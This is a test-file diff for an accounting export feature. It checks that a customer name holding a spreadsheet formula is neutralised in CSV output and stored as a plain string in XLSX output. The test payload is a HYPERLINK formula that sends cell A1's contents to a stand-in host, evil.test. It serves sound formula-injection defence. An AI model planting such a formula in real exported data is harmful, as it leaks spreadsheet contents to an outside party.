@@ -104,6 +104,28 @@ describe.each(dbKinds)('tax and accounting interface (%s)', (kind) => {
     expect(rows.find((r) => r.Number === doc.number)).toMatchObject({ Total: 236, Tax: 36, Currency: 'USD' });
   });
 
+  it('exports a customer name that looks like a formula as text: neutralised in CSV, a string cell in XLSX', async () => {
+    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
+    const doc = await sale('11.80');
+    const [{ id, name }] = await server.db.query<{ id: string; name: string }>(
+      `select e.id_entity as id, e.name from fiscal_document d join entity e using (id_entity) where d.id_fiscal_document = $1`,
+      [doc.idFiscalDocument]);
+    await server.db.query('update entity set name = $2 where id_entity = $1', [id, formula]);
+    try {
+      const exported = async (format: string) => Buffer.from(ok(await admin.gql<{ exportAccountingDocuments: { base64: string } }>(
+        EXPORT, { input: { dateFrom: TODAY, dateTo: TODAY, format } })).exportAccountingDocuments.base64, 'base64');
+      const line = (await exported('CSV')).toString('utf8').split('\r\n').find((l) => l.includes(doc.number))!;
+      expect(line).toContain(`,"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")",`);
+      expect(line).toMatch(/,USD,10\.00,1\.80,11\.80,/);
+      const sheet = XLSX.read(await exported('XLSX'), { cellFormula: true }).Sheets.Documents;
+      const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')).map(([, cell]) => cell as XLSX.CellObject);
+      expect(cells.find((c) => c.v === formula)).toMatchObject({ t: 's' });
+      expect(cells.some((c) => c.f)).toBe(false);
+    } finally {
+      await server.db.query('update entity set name = $2 where id_entity = $1', [id, name]);
+    }
+  });
+
   it('refuses bad input and other OUs', async () => {
     const doc = await sale('5.00');
     const before = await tableDump(server, 'fiscal_document');
